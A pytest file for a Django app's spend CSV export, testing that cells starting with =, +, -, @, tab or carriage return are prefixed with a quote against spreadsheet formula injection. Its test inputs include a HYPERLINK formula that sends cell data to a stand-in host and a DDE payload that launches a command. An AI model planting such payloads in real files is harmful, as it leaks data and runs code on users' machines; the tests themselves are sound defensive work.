"""spend.csv is opened in spreadsheets: text that would run as a formula is exported as text (OWASP's
rule: a leading `'` on cells starting with =, +, -, @, tab or carriage return)."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from runs.models import RunStatus
from runs.spend.models import CostEntry
from tests.factories import RunFactory, UserFactory

pytestmark = pytest.mark.django_db

TODAY = dt.datetime.now(dt.UTC).date()


def spend_rows(client) -> list[dict[str, str]]:
    response = client.get(reverse("spend:csv"), {"days": 30})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tx",
        "\rx",
    ],
)
def test_a_run_name_or_username_that_starts_a_formula_is_exported_as_text(client, name):
    author = UserFactory(username=name[:150], password=None)
    run = RunFactory(name=name, created_by=author, pool="cpu", status=RunStatus.RUNNING)
    CostEntry.objects.create(run=run, day=TODAY, usd=Decimal("-1.5"), gpu_hours=1)
    client.force_login(author)

    (row,) = spend_rows(client)

    assert row["run_name"] == "'" + name
    assert row["user"] == "'" + name
    assert row["usd"] == "-1.500000"  # a number of ours is left as it is


def test_plain_names_are_exported_unchanged(logged_in, user):
    run = RunFactory(name="lr sweep = 3e-4", created_by=user, pool="cpu")
    CostEntry.objects.create(run=run, day=TODAY, usd=Decimal("2"), gpu_hours=1)

    (row,) = spend_rows(logged_in)

    assert (row["run_name"], row["user"], row["usd"]) == ("lr sweep = 3e-4", "alice", "2.000000")
